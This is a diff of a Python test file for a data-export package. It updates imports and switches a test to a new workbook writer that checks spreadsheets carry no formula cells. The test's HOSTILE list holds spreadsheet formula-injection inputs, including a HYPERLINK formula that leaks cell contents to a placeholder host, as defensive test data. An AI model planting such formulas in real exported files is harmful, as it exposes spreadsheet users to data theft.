@@ -8,8 +8,11 @@ from openpyxl import load_workbook
 from disclosure_scan import formula_cells
 from fixture_project import FIXTURE_STUDIES
 from icevidence import load_study
-from icevidence.present.results import SampleTables, ThemeMatrix
-from icevidence.present.tables import FORMULA_STARTS, neutralise, write_csv, write_table
+from icevidence import SampleTables, ThemeMatrix
+from icevidence.analyses.result import Table
+from icevidence.present.csv import write_csv
+from icevidence.present.escape import FORMULA_STARTS, neutralise
+from icevidence.present.xlsx import write_workbook
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
 
@@ -36,7 +39,7 @@ def test_csv_cells_labels_and_names_are_neutralised(tmp_path):
 
 
 def test_xlsx_has_no_formula_cell_and_keeps_numbers_numeric(tmp_path):
-    _, xlsx = write_table(frame(), tmp_path, "t", caption="=caption", note="-note")
+    xlsx = write_workbook(tmp_path / "t.xlsx", [Table("t", "=caption", frame(), notes=["-note"], index=True)])
     sheet = load_workbook(xlsx)["t"]
     assert formula_cells(xlsx) == []
     texts = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "s"]
